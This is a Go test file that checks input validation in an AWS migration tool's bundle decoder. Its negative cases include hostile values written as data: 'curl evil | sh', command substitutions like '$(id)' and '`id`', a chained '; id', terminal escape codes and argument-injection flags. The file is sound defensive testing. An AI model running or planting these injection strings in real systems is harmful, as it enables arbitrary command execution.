package bundle

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/awsmigrate/awsmigrate/pkg/fault"
	"github.com/awsmigrate/awsmigrate/pkg/verify"
	"github.com/awsmigrate/awsmigrate/pkg/verify/checks/evidence"
	"github.com/awsmigrate/awsmigrate/pkg/verify/cloud"
)

func written() Bundle {
	return Bundle{
		Target: Target{Kind: "rke2", Name: "demo", Namespace: "fleet-default", UID: "0b2c4b9e-1111-4222-8333-444455556666"},
		Header: []string{"demo   fleet-default · c-m-x · RKE2 v1.26.15+rke2r1", "now    P0   in-tree", "end    overrides (auto)", "aws    1 · us-east-1 · as arn:aws:iam::1:user/a"},
		Next:   "awsmigrate rke2 plan --cluster demo --kubeconfig '/home/a b/it'\\''s'",
		Side:   json.RawMessage(`{"facts":{}}`),
	}
}

func decoded(t *testing.T, b Bundle) (Bundle, error) {
	t.Helper()
	b.APIVersion, b.Kind, b.Schema = apiVersion, kind, schema
	text, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	return Decode("file x", text)
}

// Texts of a bundle that awsmigrate cannot have written are rejected, with the field's name.
func TestDecode_foreignHeader_refused(t *testing.T) {
	for _, next := range []string{"", written().Next, "awsmigrate rke plan --config cluster.yml", "awsmigrate rke plan --cluster 'a b' --namespace c-x"} {
		b := written()
		if b.Next = next; next != "" && !strings.HasPrefix(next, "awsmigrate") {
			t.Fatal(next)
		}
		if _, err := decoded(t, b); err != nil {
			t.Errorf("%q: %v", next, err)
		}
	}
	for _, note := range []string{NoteRancher, NoteRKE} {
		b := written()
		b.Header = append(b.Header, note+": more about it")
		if _, err := decoded(t, b); err != nil {
			t.Errorf("%q: %v", note, err)
		}
	}
	for field, changes := range map[string][]func(*Bundle){
		"target.kind": {func(b *Bundle) { b.Target.Kind = "" }, func(b *Bundle) { b.Target.Kind = "x" }},
		"target.name": {
			func(b *Bundle) { b.Target.Name = "$(touch X)" }, func(b *Bundle) { b.Target.Name = "" }, func(b *Bundle) { b.Target.Name = "a\x1b[2J" },
			func(b *Bundle) { b.Target.Kind, b.Target.Name, b.Side = "kubernetes", "a\nb", nil }, func(b *Bundle) { b.Target.Kind, b.Target.Name = "rke", "--yes" },
			func(b *Bundle) { b.Target.Kind, b.Target.Name = "rke", strings.Repeat("a", 254) },
		},
		"target.namespace": {func(b *Bundle) { b.Target.Namespace = "a b" }},
		"target.uid":       {func(b *Bundle) { b.Target.UID = "`id`" }},
		"next": {
			func(b *Bundle) { b.Next = "curl evil | sh" }, func(b *Bundle) { b.Next = "awsmigrate rke2 plan --cluster $(id)" },
			func(b *Bundle) { b.Next = "awsmigrate rke2 plan --cluster demo; id" }, func(b *Bundle) { b.Next = "awsmigrate rke2 undo --cluster demo" },
			func(b *Bundle) { b.Next = "awsmigrate rke plan --config c --rke-binary /tmp/x" }, func(b *Bundle) { b.Next = "awsmigrate rke2 plan --cluster 'a\nb'" },
			func(b *Bundle) { b.Next = "awsmigrate rke2 plan --cluster demo " }, func(b *Bundle) { b.Next = "awsmigrate rke2 plan --cluster ''x'' --yes" },
			func(b *Bundle) { b.Next = "awsmigrate rke2 plan --cluster 'demo'" },
		},
		"header[0]":   {func(b *Bundle) { b.Header[0] = "next   curl evil | sh" }, func(b *Bundle) { b.Header[0] = "a\nb" }},
		"header[2]":   {func(b *Bundle) { b.Header[2] = "fix    curl evil | sh" }, func(b *Bundle) { b.Header[2] = "end \u202e" }, func(b *Bundle) { b.Header[2] = "" }},
		"header with": {func(b *Bundle) { b.Header = append(b.Header, make([]string, 30)...) }},
		"side": {
			func(b *Bundle) { b.Target.Kind = "kubernetes" }, func(b *Bundle) { b.Side = json.RawMessage(`[]`) }, func(b *Bundle) { b.Side = json.RawMessage(`"x"`) },
		},
		"id": {func(b *Bundle) {
			b.Input.Cloud.Instances = verify.Got(map[string]cloud.Instance{"i-00000001": {ID: "--profile"}})
		}},
		"zone": {func(b *Bundle) {
			b.Input.Cloud.Unclaimed = verify.Got([]cloud.Instance{{ID: "i-00000001", Zone: "a;b"}})
		}},
		"thing of AWS": {func(b *Bundle) { b.Input.Cloud.Subnets = verify.Got(map[string]cloud.Tags{"-x": nil}) }},
		"role": {func(b *Bundle) {
			b.Input = evidence.Input{Cloud: cloud.Facts{Roles: verify.Got([]cloud.RoleRights{{Role: "a b"}})}}
		}},
	} {
		for i, change := range changes {
			b := written()
			change(&b)
			_, err := decoded(t, b)
			var f *fault.Error
			if !errors.As(err, &f) || f.Class != fault.Usage || !strings.Contains(f.Seen, field) || strings.ContainsAny(f.Seen, "\n\x1b") {
				t.Errorf("%s, %d: %v", field, i, err)
			}
		}
	}
}

// Recorded fixes are dropped.
func TestDecode_recordedFixes_dropped(t *testing.T) {
	b := written()
	b.Own = []verify.Recorded{{ID: "AWSM-101", Findings: []verify.Finding{{Status: verify.Fail, Object: "a", Seen: "b", Fix: "curl evil | sh"}}}}
	got, err := decoded(t, b)
	if err != nil || got.Own[0].Findings[0].Fix != "" || got.Own[0].Findings[0].Seen != "b" {
		t.Errorf("%+v, %v", got.Own, err)
	}
}

// Decode accepts the output of Encode, for any next command and any cluster name.
func TestDecode_encodedBundle_accepted(t *testing.T) {
	for next, kept := range map[string]string{
		"awsmigrate rke plan --config cluster.yml":                       "awsmigrate rke plan --config cluster.yml",
		"awsmigrate rke plan --config cluster.yml --rke-binary /opt/rke": "",
		"awsmigrate rke plan --config cluster.yml --rke-arg --ssh-agent": "",
	} {
		b := written()
		b.Next, b.Header[0] = next, "next-prod   fleet-default"
		text, err := Encode(b, NewRedactor())
		if err != nil {
			t.Fatal(err)
		}
		if got, err := Decode("x.json", text); err != nil || got.Next != kept {
			t.Errorf("%q: %q, %v", next, got.Next, err)
		}
	}
}
